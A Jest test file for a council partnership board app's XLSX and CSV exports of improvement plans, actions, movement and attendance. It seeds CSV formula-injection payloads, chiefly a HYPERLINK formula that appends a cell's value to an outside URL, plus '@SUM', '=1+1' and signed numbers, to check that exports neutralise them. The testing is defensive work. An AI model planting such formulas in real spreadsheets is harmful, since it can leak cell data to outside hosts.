import { beforeAll, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import readExcel, { type CellValue } from 'read-excel-file/node'
import { addAgency } from '../../server/people/agency.store.ts'
import { changePerson, findPerson } from '../../server/people/person.store.ts'
import { today } from '../support/clock.ts'
import { addTestAction, addTestUpdate } from '../support/builders/actions.ts'
import { appOn } from '../support/app.ts'
import { type Browser, signedIn } from '../support/browser.ts'
import { addCast, type Cast } from '../support/cast.ts'
import { onOneDatabase } from '../support/databases/databases.ts'
import { hereFor } from '../support/builders/inspections.ts'
import { addTestMeeting } from '../support/builders/meetings.ts'
import { addTestPlan, type TestPlan } from '../support/builders/plans.ts'
import type { TestSession } from '../support/builders/sessions.ts'
import { addTestSnapshot } from '../support/builders/snapshots.ts'
import { zipParts } from '../support/files/zip-parts.ts'

const ATTACK = '=HYPERLINK("https://example.org?"&A1,"Open")'

type Row = Record<string, CellValue | null | undefined>
type Tables = Record<string, Row[]>

onOneDatabase('tables to save', (db) => {
  let cast: Cast
  let olive: Browser
  let plan: TestPlan
  let june: TestSession
  let september: TestSession

  beforeAll(async () => {
    cast = await addCast(db())
    olive = await signedIn(await appOn(db()), cast.olive)
    const here = await hereFor(db(), cast.hasan)
    await addAgency(db(), here, { name: 'Northmoor Police', statutory: true })
    await db()('people').where({ id: cast.bronwen.personId }).update({ job_title: 'Head teacher' })
    plan = await addTestPlan(db(), cast.hasan, {
      slug: 'tables',
      title: 'Improvement plan 2026-27',
      rows: [
        {
          text: 'Give every child a place at school',
          addressee: 'The Partnership Board',
          keyLines: [{ text: 'Nine children had none', reference: 'paragraph 12' }, { text: ATTACK }],
          board: [{ personId: cast.bronwen.personId }],
          service: ['TBC'],
        },
        { text: ATTACK },
      ],
    })
    const late = await addTestAction(db(), cast.hasan, plan.recommendationIds[0]!, {
      description: 'Hold a monthly panel, led by Sophie Service',
      desiredOutcome: '@SUM(1,2)',
      successMeasure: 'Children with a place',
      baseline: '-9',
      target: '+0',
      owners: [{ personId: cast.sophie.personId }],
      startsOn: '2026-01-10',
      targets: [{ on: '2026-06-30' }, { on: '2026-08-31', reason: 'Two schools joined late' }],
    })
    await addTestUpdate(db(), cast.sophie, late, {
      rag: 'amber',
      narrative: 'Two panels were held.',
      reason: 'Nine children still wait',
      askOfBoard: 'Write to the two academies',
      sentAt: '2026-05-20T23:30:00.000Z',
      evidenceUrl: 'https://example.org/note',
      decision: { decision: 'accepted', by: cast.hasan },
    })
    june = await addTestSnapshot(db(), cast.clive, { plan, heldOn: '2026-06-03', agreed: ['amber', 'green'] })
    await addTestUpdate(db(), cast.sophie, late, {
      rag: 'red',
      narrative: 'The panel stopped.',
      reason: 'No chair',
      sentAt: '2026-08-20T10:00:00.000Z',
      decision: { decision: 'accepted', by: cast.hasan },
    })
    september = await addTestSnapshot(db(), cast.clive, {
      plan,
      heldOn: '2026-09-03',
      agreed: ['red', 'green'],
      reason: 'Bronwen Board asked for a full term first',
    })
    await db()('action_dates').insert({
      action_id: late,
      starts_on: '2026-01-10',
      target_on: '2026-12-18',
      reason: 'The panel begins again in autumn',
      set_by: cast.hasan.accountId,
      set_at: '2026-10-01T09:00:00.000Z',
    })
  })

  const excel = async (path: string): Promise<Tables> => {
    const { status, body } = await olive.download(path)
    expect(status).toBe(200)
    const sheets = await readExcel(body, { trim: false })
    return Object.fromEntries(sheets.map(({ sheet, data }) => [sheet, rowsOf(data)]))
  }
  const csv = async (path: string): Promise<Row[]> => {
    const { status, text } = await olive.get(path)
    expect(status).toBe(200)
    return parse<Row>(text, { bom: true, columns: true })
  }
  const aboutOf = async (path: string) => {
    const [about] = await readExcel((await olive.download(path)).body)
    return Object.fromEntries(about!.data.map(([term, text]) => [String(term), String(text)]))
  }

  test('come as files with a name that says whose, what and of which day', async () => {
    const excelFile = await olive.download(`${plan.path}.xlsx`)
    expect(excelFile.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    expect(excelFile.headers['content-disposition']).toBe(
      `attachment; filename=northmoor-plan-${today()}.xlsx`,
    )
    expect(excelFile.headers['cache-control']).toBe('no-store')
    const csvFile = await olive.get(`${plan.path}.csv?of=${september.id}&version=public`)
    expect(csvFile.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(csvFile.headers['content-disposition']).toBe(
      'attachment; filename=northmoor-plan-public-2026-09-03.csv',
    )
  })

  test('are linked from the pages that show the same', async () => {
    for (const path of [
      plan.path,
      `${plan.path}/paper?of=${september.id}&version=public`,
      `${plan.path}/as-at?of=${june.id}`,
      `${june.path}/snapshot`,
      `${plan.path}/compare?since=${june.id}&of=${september.id}`,
      `${plan.path}/compare?since=${june.id}&of=today`,
      `${june.path}/attendance`,
    ]) {
      const { text } = await olive.get(path)
      const links = [...text.matchAll(/href="([^"]+\.(?:xlsx|csv)[^"]*)"/g)].map(([, href]) => href!)
      expect([path, links.length]).toEqual([path, path === plan.path ? 3 : 2])
      for (const href of links) {
        expect((await olive.get(href.replaceAll('&amp;', '&').replaceAll('&#x3D;', '='))).status).toBe(200)
      }
    }
  })

  test('of the plan have a row for each recommendation, with days and numbers as what they are', async () => {
    const { Plan, Actions } = await excel(`${plan.path}.xlsx`)
    expect(Plan).toHaveLength(2)
    expect(Plan![0]).toEqual({
      Number: 1,
      Recommendation: 'Give every child a place at school',
      Addressee: 'The Partnership Board',
      'Deadline in the report': null,
      'Our response': null,
      'Reason for our response': null,
      'Key lines of enquiry': `Nine children had none (paragraph 12)\n${ATTACK}`,
      'Board champions': 'Bronwen Board',
      'Service champions': 'TBC',
      'Agreed RAG': 'Red',
      'Agreed on': new Date('2026-09-03T00:00:00Z'),
      Movement: 'Worsened',
      Reason: 'Bronwen Board asked for a full term first',
      'RAG suggested by reports': 'Red',
      Actions: 1,
      'Actions complete': 0,
      'Actions overdue': 0,
    })
    expect(Plan![1]).toMatchObject({ Recommendation: ATTACK, Actions: 0, 'RAG suggested by reports': null })
    expect(Actions).toHaveLength(1)
  })

  test('of actions have a row for each, with how its date moved and what was said last', async () => {
    const { Actions } = await excel(`${plan.path}/actions.xlsx`)
    expect(Actions).toHaveLength(1)
    expect(Actions![0]).toMatchObject({
      Recommendation: 1,
      Action: 'Action 1.1',
      Owners: 'Sophie Service',
      'Target date': new Date('2026-12-18T00:00:00Z'),
      'First target date': new Date('2026-06-30T00:00:00Z'),
      'Times moved': 2,
      'Days slipped': 171,
      Complete: 'No',
      'Desired outcome': '@SUM(1,2)',
      Baseline: '-9',
      Target: '+0',
      RAG: 'Red',
      'Last update': 'The panel stopped.',
      'Updated on': new Date('2026-08-20T00:00:00Z'),
      'Updated by': 'Sophie Service (Job of Sophie Service)',
    })
  })

  test('say the same as CSV, where a text that would run has an apostrophe before it', async () => {
    const [first, second] = await csv(`${plan.path}.csv`)
    expect(first).toMatchObject({ Number: '1', 'Agreed on': '2026-09-03', 'Actions overdue': '0' })
    expect(second).toMatchObject({ Recommendation: `'${ATTACK}` })
    const [action] = await csv(`${plan.path}/actions.csv`)
    expect(action).toMatchObject({
      'Target date': '2026-12-18',
      'Days slipped': '171',
      Baseline: "'-9",
      Target: "'+0",
      'Desired outcome': "'@SUM(1,2)",
    })
  })

  test('have no formula in them anywhere', async () => {
    for (const path of [
      `${plan.path}.xlsx`,
      `${plan.path}/movement.xlsx`,
      `${september.path}/snapshot.xlsx`,
    ]) {
      const parts = zipParts((await olive.download(path)).body)
      expect(parts.get('xl/sharedStrings.xml')).toContain('=HYPERLINK')
      for (const xml of parts.values()) expect(xml).not.toMatch(/<f[ >/]/)
    }
  })

  test('say on a first sheet whose they are, as at when and what each RAG means', async () => {
    const about = await aboutOf(`${plan.path}.xlsx`)
    expect(about).toMatchObject({
      Council: 'Northmoor',
      Board: 'Northmoor Youth Justice Partnership Board',
      Plan: 'Improvement plan 2026-27',
      From: `http://127.0.0.1:3000${plan.path}.xlsx`,
      Red: expect.stringContaining('Off track'),
    })
    expect(about['Position']).toMatch(/^As at today, .*, not yet agreed$/)
    expect(about).not.toHaveProperty('SHA-256')
  })

  test('of a snapshot have its checksum, and stay as they were when the plan has moved on', async () => {
    const before = await excel(`${june.path}/snapshot.xlsx`)
    expect(before['Plan']![0]).toMatchObject({ 'Agreed RAG': 'Amber', 'RAG suggested by reports': 'Amber' })
    // Half past eleven at night in UTC is the next day in London.
    expect(before['Actions']![0]).toMatchObject({
      'Target date': new Date('2026-08-31T00:00:00Z'),
      'Updated on': new Date('2026-05-21T00:00:00Z'),
    })
    const { sha256 } = await db()('snapshots')
      .where({ meeting_id: june.id })
      .first<{ sha256: string }>('sha256')
    const about = await aboutOf(`${june.path}/snapshot.xlsx`)
    expect(about).toMatchObject({ Position: 'As agreed on 3 June 2026', 'SHA-256': sha256 })

    const here = await hereFor(db(), cast.amina)
    const bronwen = (await findPerson(db(), here, cast.bronwen.personId))!
    await changePerson(db(), here, bronwen, { ...bronwen, name: 'Bronwen Renamed' })
    expect((await excel(`${june.path}/snapshot.xlsx`))['Plan']).toEqual(before['Plan'])
    expect((await excel(`${plan.path}.xlsx?of=${june.id}`))['Plan']).toEqual(before['Plan'])
    expect((await excel(`${plan.path}.xlsx`))['Plan']![0]).toMatchObject({
      'Board champions': 'Bronwen Renamed',
    })
    // A past day is read from the history, under the names of then.
    expect((await excel(`${plan.path}.xlsx?of=2026-06-10`))['Plan']![0]).toMatchObject({
      'Agreed RAG': 'Amber',
      'Board champions': 'Bronwen Board',
    })
  })

  test('for the public have job titles for names, and nothing that was only reported', async () => {
    for (const path of [
      `${september.path}/snapshot.xlsx?version=public`,
      `${plan.path}.xlsx?of=${september.id}&version=public`,
      `${plan.path}/actions.xlsx?of=${september.id}&version=public`,
      `${plan.path}/movement.xlsx?of=${september.id}&version=public`,
    ]) {
      const parts = zipParts((await olive.download(path)).body)
      const words = [...parts.values()].join('\n')
      for (const secret of ['Bronwen', 'Sophie', 'Hasan', 'Clive', 'panels were held', 'panel stopped']) {
        expect(words).not.toContain(secret)
      }
      for (const secret of [
        'academies',
        'Nine children still wait',
        'Sign-off note',
        'suggested by reports',
      ]) {
        expect(words).not.toContain(secret)
      }
      expect(words).toContain('Public version')
    }
    const { Plan, Actions } = await excel(`${september.path}/snapshot.xlsx?version=public`)
    expect(Plan![0]).toMatchObject({ 'Board champions': 'Head teacher', 'Agreed RAG': 'Red', Actions: 1 })
    expect(Actions![0]).not.toHaveProperty('RAG')
    const text = (await olive.get(`${plan.path}.csv?of=${september.id}&version=public`)).text
    expect(text).not.toMatch(/Bronwen|Sophie/)
  })

  test('have a public version only of what the board agreed, and say so', async () => {
    for (const path of [`${plan.path}.xlsx`, `${plan.path}/actions.csv`, `${plan.path}/movement.csv`]) {
      const { status, text } = await olive.get(`${path}?version=public`)
      expect(status).toBe(409)
      expect(text).toContain('There is a public version only of what the board agreed at a meeting.')
    }
    expect((await olive.get(`${plan.path}.csv?version=pubic`)).status).toBe(404)
    expect((await olive.get(`${plan.path}.csv?version=full&of=`)).status).toBe(200)
  })

  test('of movement compare with the last meeting unless another is named', async () => {
    const { Movement } = await excel(`${plan.path}/movement.xlsx`)
    expect(Movement).toHaveLength(3)
    expect(Movement![0]).toMatchObject({ Recommendation: 1, 'RAG then': 'Red', 'RAG now': 'Red' })
    expect(Movement![1]).toMatchObject({
      Recommendation: 1,
      Action: 'Action 1.1',
      'Target date then': new Date('2026-08-31T00:00:00Z'),
      'Target date now': new Date('2026-12-18T00:00:00Z'),
      'Times moved': 1,
      'Days slipped': 109,
      'Reasons for moving the date': 'The panel begins again in autumn',
    })
    expect(Movement![2]).toMatchObject({ Recommendation: 2, Movement: 'Unchanged' })
    const [first, action] = await csv(`${plan.path}/movement.csv?since=${june.id}&of=${september.id}`)
    expect(first).toMatchObject({ 'RAG then': 'Amber', 'RAG now': 'Red', Movement: 'Worsened' })
    expect(action).toMatchObject({ 'RAG then': 'Amber', 'RAG now': 'Red', 'Target date now': '' })
    // The other way round is the same comparison.
    expect(await csv(`${plan.path}/movement.csv?since=${september.id}&of=${june.id}`)).toEqual(
      await csv(`${plan.path}/movement.csv?since=${june.id}&of=${september.id}`),
    )
    expect(await aboutOf(`${plan.path}/movement.xlsx?of=${september.id}`)).toMatchObject({
      'What moved': expect.stringMatching(/^Between 3 June and 3 September 2026: /),
      'Compared with': 'As agreed on 3 June 2026',
      Position: 'As agreed on 3 September 2026',
    })
  })

  test('of movement need two meetings, or one and today', async () => {
    const first = await olive.get(`${plan.path}/movement.csv?of=${june.id}`)
    expect(first.status).toBe(409)
    expect(first.text).toContain('There is no earlier meeting to compare with')
    const itself = await olive.get(`${plan.path}/movement.csv?of=${june.id}&since=${june.id}`)
    expect(itself.status).toBe(409)
    expect(itself.text).toContain('A meeting cannot be compared with itself')
  })

  test('of attendance have a row for each member and each agency, and for each person at one meeting', async () => {
    const october = await addTestMeeting(db(), cast.hasan, {
      heldOn: '2026-10-06',
      state: 'draft_minutes',
      planId: plan.id,
    })
    await db()('attendance_records').insert([
      record(october, cast.bronwen.personId, 'present'),
      record(october, cast.clive.personId, 'deputy', 'Dilys Deputy'),
    ])
    const { Attendance } = await excel('/partnerships/northmoor/attendance.xlsx')
    const clive = Attendance!.find(({ Name }) => Name === 'Clive Chair')
    expect(clive).toMatchObject({
      'Member or agency': 'Member',
      'Meetings expected at': 1,
      'In person, or represented': 0,
      'Sent a deputy': 1,
      'Per cent of meetings': 0,
      'Per cent committed to': 0.75,
      'Against the commitment': 'Below',
    })
    const rows = await csv(`${october.path}/attendance.csv`)
    expect(rows).toContainEqual(
      expect.objectContaining({
        Name: 'Clive Chair',
        'On the board': 'Yes',
        Attendance: 'Deputy sent',
        Deputy: 'Dilys Deputy',
        'Interest declared': "'=1+1",
      }),
    )
    expect((await excel(`${october.path}/attendance.xlsx`))['Attendance']).toHaveLength(rows.length)
  })

  test('of an empty plan have their headings alone', async () => {
    const empty = await addTestPlan(db(), cast.hasan, { slug: 'empty', rows: [] })
    const sheets = await readExcel((await olive.download(`${empty.path}.xlsx`)).body)
    expect(sheets.map(({ data }) => data.length)).toEqual([expect.any(Number), 1, 1])
    expect((await olive.get(`${empty.path}/movement.csv`)).status).toBe(409)
  })

  test('answer 404 for what is not there, and 409 where a meeting has no snapshot yet', async () => {
    const soon = await addTestMeeting(db(), cast.hasan, { heldOn: '2099-03-02', planId: plan.id })
    for (const path of [
      '/partnerships/northmoor/plans/none.xlsx',
      `${plan.path}.xlsx?of=0`,
      `${plan.path}.xlsx?of=999999`,
      `${plan.path}.csv?of=today&of=${june.id}`,
      `${plan.path}/movement.xlsx?since=999999`,
      '/partnerships/northmoor/meetings/999999/snapshot.csv',
    ]) {
      expect([path, (await olive.get(path)).status]).toEqual([path, 404])
    }
    for (const path of [`${plan.path}.xlsx?of=${soon.id}`, `${plan.path}/movement.csv?since=${soon.id}`]) {
      const { status, text } = await olive.get(path)
      expect(status).toBe(409)
      expect(text).toContain('has no snapshot yet')
    }
  })

  const record = ({ id }: { id: number }, personId: number, status: string, deputy = '') => ({
    meeting_id: id,
    person_id: personId,
    capacity: 'member',
    version: 1,
    status,
    deputy_name: deputy,
    interest: '=1+1',
    saved_by: cast.martin.accountId,
    saved_at: '2026-09-03T10:00:00.000Z',
  })
})

/** Rows by their headings. */
function rowsOf([headings = [], ...rows]: (CellValue | null)[][]): Row[] {
  return rows.map((row) =>
    Object.fromEntries(headings.map((heading, index) => [String(heading), row[index]])),
  )
}
